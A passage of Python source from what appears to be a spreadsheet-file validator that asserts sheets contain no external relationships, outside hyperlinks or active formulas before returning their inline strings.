        assert kind not in ACTIVE_RELATIONSHIPS, f"{path.name}: {name} has a {kind} relationship"
        assert relationship.get("TargetMode") != "External", \
            f"{path.name}: {name} points outside: {relationship.get('Target')}"


def _inert_sheet(path: Path, name: str, root: Element, formulas: bool,
                 internal_links: bool) -> list[str]:
    """The sheet's inline strings, once it is shown to hold no hyperlink or active formula."""
    for link in root.iter(f"{MAIN_NS}hyperlink"):
        location = link.get("location", "")
        within = not any(key.endswith("}id") for key in link.attrib) and "[" not in location
        assert internal_links and location and within, \
            f"{path.name}: {name} has a hyperlink at {link.get('ref')}"
    for formula in root.iter(f"{MAIN_NS}f"):
        assert formulas, f"{path.name}: {name} has a formula: {formula.text}"
        assert not ACTIVE_FORMULA.search(formula.text or ""), \
            f"{path.name}: {name} has an active formula: {formula.text}"
    return ["".join(t.text or "" for t in inline.iter(f"{MAIN_NS}t"))
            for inline in root.iter(f"{MAIN_NS}is")]
